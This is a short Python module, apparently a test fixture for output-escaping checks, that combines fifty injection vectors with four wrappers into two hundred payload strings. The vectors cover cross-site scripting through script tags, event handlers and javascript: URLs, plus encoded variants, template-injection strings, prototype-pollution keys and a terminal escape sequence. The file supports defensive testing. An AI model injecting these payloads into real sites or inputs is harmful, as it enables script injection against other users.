"""Texts that would run a script, or break a page, table or terminal, if they were not escaped."""

_VECTORS = (
    "<script>alert({n})</script>",
    "</script><script>alert({n})</script>",
    "<!--<script>alert({n})",
    "--><script>alert({n})</script>",
    "]]><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</style><script>alert({n})</script>",
    "</textarea></select></table><script>alert({n})</script>",
    "</svg><script>alert({n})</script>",
    "<SCRIPT/x>alert({n})</SCRIPT >",
    "<scr\tipt>alert({n})</scr\tipt>",
    '"><img src=x onerror=alert({n})>',
    "'><img src=x onerror=alert({n})>",
    "<img src=x onerror=alert({n})//",
    "<svg onload=alert({n})>",
    "<svg><script>alert({n})</script></svg>",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:alert({n})'>x",
    '" autofocus onfocus=alert({n}) x="',
    "' autofocus onfocus=alert({n}) x='",
    " onmouseover=alert({n}) ",
    "` onload=alert({n}) `",
    "<body onload=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<input autofocus onfocus=alert({n})>",
    "<iframe srcdoc='<script>alert({n})</script>'></iframe>",
    "<iframe src=javascript:alert({n})></iframe>",
    "<object data=javascript:alert({n})></object>",
    "<meta http-equiv=refresh content='0;url=javascript:alert({n})'>",
    "<base href=javascript:alert({n})//>",
    "<form action=javascript:alert({n})><button autofocus>",
    "<style>@import 'javascript:alert({n})';</style>",
    "javascript:alert({n})",
    '"];alert({n});//',
    "'}};alert({n});//",
    '\\";alert({n});//',
    "\u2028alert({n})\u2029",
    "${{alert({n})}}",
    "{{{{ alert({n}) }}}}{{% raw %}}",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;script&#62;alert({n})&#60;/script&#62;",
    "%3Cscript%3Ealert({n})%3C/script%3E",
    "data:text/html,<script>alert({n})</script>",
    "__proto__",
    "constructor",
    "\x1b]0;title\x07\x1b[2J",
    "\ufeff<script>alert({n})</script>",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
)
_AROUND = ("{}", 'a"{}', "a'{}", "{}\nb")

PAYLOADS = [
    around.format(vector.format(n=number + 100 * side))
    for side, around in enumerate(_AROUND)
    for number, vector in enumerate(_VECTORS)
]
"""Two hundred of them."""
